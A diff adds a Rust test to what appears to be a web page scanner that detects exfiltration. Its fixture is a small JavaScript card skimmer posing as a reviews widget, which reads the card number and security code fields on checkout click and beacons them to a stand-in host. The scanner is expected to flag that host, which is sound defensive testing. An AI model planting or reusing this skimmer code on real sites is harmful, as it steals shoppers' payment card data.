@@ -220,3 +220,33 @@ fn a_host_in_a_css_custom_property_or_a_template() {
         "{hosts:?}"
     );
 }
+
+/// A widget that finds its own tag by part of its address (`script[src*="…"]`), not through
+/// `currentScript`, and takes its API host from the tag's `data-api`.
+#[test]
+fn a_tag_found_by_part_of_its_src() {
+    let widget = r#"(function () {
+  var tag = document.querySelector('script[src*="reviews-widget"]');
+  var api = 'https://' + tag.dataset.api + '/v2/collect';
+  document.addEventListener('click', function (e) {
+    if (e.target && e.target.id === 'shopping-confirm-btn') {
+      var d = { n: document.getElementById('card_no').value, c: document.getElementById('security_code').value };
+      navigator.sendBeacon(api, JSON.stringify(d));
+    }
+  }, true);
+})();"#;
+    let body = r#"<script src="/js/reviews-widget.min.js?v=3" data-api="reviews.widget-host.example"></script>"#;
+    let (code, report) = scan(
+        &[("/shopping", page("", body))],
+        &[("/js/reviews-widget.min.js", widget)],
+        &["--no-cache"],
+    );
+    assert_eq!(code, 1, "{report:#}");
+    assert_eq!(
+        exfiltration(&report),
+        vec![(
+            "/shopping".to_string(),
+            vec!["reviews.widget-host.example".to_string()]
+        )]
+    );
+}
